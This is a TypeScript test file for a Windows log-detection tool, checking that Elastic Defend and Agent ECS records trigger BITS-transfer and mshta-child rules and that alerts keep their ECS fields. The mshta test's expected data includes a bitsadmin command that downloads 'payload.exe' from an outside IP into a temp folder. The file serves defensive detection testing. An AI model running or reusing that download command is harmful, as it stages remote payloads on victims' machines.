/**
 * ECS as Elastic Agent writes it, end to end: Elastic Defend documents (`agent.type: endpoint`)
 * exported without `ecs.version` / `data_stream`, and an Elastic Agent Windows-integration
 * document (`data_stream` + `winlog`), are read as ECS; the bundled Elastic rule and Elastic's own
 * rules fire on them; and the alert, through the CLI (`scan --format jsonl`) and through the SNS
 * message builder, carries the ECS fields the query read and the document's identity fields.
 */
import { execFile } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { createAggregator } from '../../lib/alerts/aggregator.ts';
import { toSnsMessage } from '../../lib/alerts/sns-message.ts';
import { readJsonRecord } from '../../lib/ingest/layouts/detect-layout.ts';
import { loadRulePack } from '../../lib/rules/rule-pack.ts';
import type { Match } from '../../lib/scan/match.ts';
import { scanStream } from '../../lib/scan/scan-stream.ts';
import { sharedPath } from '../support/shared-corpus.ts';

const run = promisify(execFile);
const ROOT = new URL('../..', import.meta.url).pathname;
const FIXTURES = join(ROOT, 'test/fixtures/ingest');
const RENAME = 'test/fixtures/ingest/elastic-defend-file-rename.json';
const PROCESS = 'test/fixtures/ingest/elastic-defend-process-start.json';
const AGENT_SYSMON = 'test/fixtures/ingest/elastic-agent-sysmon-1.json';
const MSHTA_RULE = sharedPath('corpus', 'elastic', 'rules-windows-eql', 'defense_evasion_mshta_susp_child.toml');

const doc = (file: string) => JSON.parse(readFileSync(join(ROOT, file), 'utf8')) as Record<string, unknown>;

async function jsonl(...args: string[]): Promise<{ rule: { id: string; title: string }; event: Record<string, unknown> }[]> {
  const { stdout } = await run(process.execPath, [join(ROOT, 'lib/cli/winsift.ts'), 'scan', '--format', 'jsonl', ...args], { cwd: ROOT });
  return stdout.trim() === '' ? [] : stdout.trim().split('\n').map((line) => JSON.parse(line));
}

describe('ECS documents as Elastic Agent writes them are recognised', () => {
  it.each([RENAME, PROCESS, AGENT_SYSMON])('%s reads as ecs', (file) => {
    const result = readJsonRecord(doc(file));
    expect('event' in result && result.event.layout).toBe('ecs');
  });

  it('Elastic Defend without ecs.version or data_stream: host.os says Windows and event.category is set', () => {
    const defend = doc(RENAME);
    expect(defend['ecs']).toBeUndefined();
    expect(defend['data_stream']).toBeUndefined();
    // Older agents write only family/platform; ECS allows one category as a string.
    const { host, event, ...rest } = defend as { host: { os: Record<string, unknown> }; event: Record<string, unknown> };
    const older = { ...rest, host: { ...host, os: { family: 'windows', platform: 'windows' } }, event: { ...event, category: 'file' } };
    expect('event' in readJsonRecord(older)).toBe(true);
  });

  it('an Agent data_stream of the Windows integration is enough; ECS from a Linux host or without a category is not Windows', () => {
    expect('event' in readJsonRecord({ '@timestamp': 't', data_stream: { dataset: 'windows.powershell_operational' } })).toBe(true);
    const linux = doc(RENAME) as { host: { os: Record<string, unknown> } };
    const notWindows = [
      { ...linux, host: { name: 'web-1', os: { type: 'linux', family: 'debian', platform: 'debian' } } },
      { '@timestamp': 't', agent: { type: 'endpoint' }, host: { os: { type: 'windows' } } },
      { '@timestamp': 't', event: { category: [1] }, host: { os: { type: 'windows' } } },
      { '@timestamp': 't', data_stream: { dataset: 'system.syslog' }, event: { category: ['host'] } },
    ];
    for (const record of notWindows) {
      const result = readJsonRecord(record);
      expect('reason' in result && result.reason).toMatch(/not a Windows event in any known layout/);
    }
  });
});

describe('EQL alerts on Elastic Defend documents carry the ECS fields (CLI jsonl)', () => {
  it('the bundled rule fires on the Defend BITS rename and shows file, process, host, user', async () => {
    const matches = await jsonl(RENAME);
    expect(matches.map((m) => m.rule.title)).toEqual(['Ingress Transfer via Windows BITS']);
    expect(matches[0]!.event).toMatchObject({
      // what the query read
      'file.path': 'C:\\Users\\alice\\AppData\\Local\\Temp\\payload.exe',
      'file.name': 'payload.exe',
      'file.extension': 'exe',
      'file.Ext.original.name': 'BIT7F3A.tmp',
      'file.Ext.header_bytes': '4d5a90000300000004000000ffff0000',
      'process.name': 'svchost.exe',
      'event.action': 'rename',
      'host.os.type': 'windows',
      // who and where
      '@timestamp': '2024-05-14T09:21:09.5120394Z',
      'event.id': 'NqG0vQ8sJ1y6oVn2+++/6Kx1',
      'agent.type': 'endpoint',
      'host.name': 'ws-fin-042',
      'host.id': '7c1e4a2b-93d5-4f0e-8a6b-2d4c9e1f3a57',
      'user.name': 'SYSTEM',
      'process.pid': 1184,
      'process.executable': 'C:\\Windows\\System32\\svchost.exe',
      // the Sigma view stays
      Computer: 'ws-fin-042',
    });
  });

  it.skipIf(!existsSync(MSHTA_RULE))("Elastic's mshta-child rule on Defend and Agent process documents shows the command line", async () => {
    const matches = await jsonl('--rules', MSHTA_RULE, PROCESS, AGENT_SYSMON);
    const mshta = matches.filter((m) => m.rule.title === 'Suspicious Microsoft HTML Application Child Process');
    expect(mshta).toHaveLength(2);
    for (const m of mshta) {
      expect(m.event).toMatchObject({
        'process.name': 'bitsadmin.exe',
        'process.parent.name': 'mshta.exe',
        'process.command_line': 'bitsadmin /transfer upd /download /priority high http://45.155.205.233/payload.exe C:\\Users\\alice\\AppData\\Local\\Temp\\payload.exe',
        'process.pid': 7312,
        'host.id': '7c1e4a2b-93d5-4f0e-8a6b-2d4c9e1f3a57',
        'user.name': 'alice',
      });
    }
    // The Agent document also keeps its Sigma view (Winlogbeat-style EventData).
    const agent = mshta.find((m) => m.event['agent.type'] === 'filebeat');
    expect(agent?.event).toMatchObject({ EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Image: 'C:\\Windows\\System32\\bitsadmin.exe' });
  });
  if (!existsSync(MSHTA_RULE)) console.warn(`SKIPPED: ${MSHTA_RULE} is absent; the Elastic corpus rule check does not run.`);
});

describe('EQL alerts carry the ECS fields through the SNS message builder', () => {
  it('OCSF evidence fields and the e-mail show file, process, host and user', async () => {
    const rulePath = join(ROOT, 'rules/elastic-ingress-transfer-via-windows-bits.toml');
    const pack = loadRulePack([{ path: rulePath, text: readFileSync(rulePath, 'utf8') }]);
    const found: Match[] = [];
    async function* bytes() {
      yield readFileSync(join(FIXTURES, 'elastic-defend-file-rename.json'));
    }
    const sink = { add: (m: Match) => void found.push(m), finish: async () => ({ delivered: 0, alreadyDelivered: 0, failed: 0 }) };
    await scanStream(bytes(), { uri: 's3://logs/defend/file.json', detector: pack.detector, sink });
    expect(found).toHaveLength(1);
    const aggregator = createAggregator({ uri: 's3://logs/defend/file.json', bucket: 'logs', key: 'defend/file.json' }, { grouping: 'object-rule-host', maxEventsPerAlert: 10 });
    aggregator.add(found[0]!);
    const message = toSnsMessage(aggregator.alerts()[0]!);
    const structure = JSON.parse(message.message) as { default: string; email: string };
    const finding = JSON.parse(structure.default) as { evidences: { data: { fields: Record<string, unknown> } }[] };
    expect(finding.evidences[0]!.data.fields).toMatchObject({
      'file.path': 'C:\\Users\\alice\\AppData\\Local\\Temp\\payload.exe',
      'process.name': 'svchost.exe',
      'host.id': '7c1e4a2b-93d5-4f0e-8a6b-2d4c9e1f3a57',
      'agent.type': 'endpoint',
    });
    expect(structure.email).toContain('file.path = "C:\\Users\\alice\\AppData\\Local\\Temp\\payload.exe"');
    expect(structure.email).toContain('process.name = "svchost.exe"');
    expect(structure.email).toContain('host.id = "7c1e4a2b-93d5-4f0e-8a6b-2d4c9e1f3a57"');
    expect(structure.email).toContain('user.name = "SYSTEM"');
    expect(structure.email).toContain('process.pid = 1184');
    expect(structure.email).toContain('agent.type = "endpoint"');
  });
});
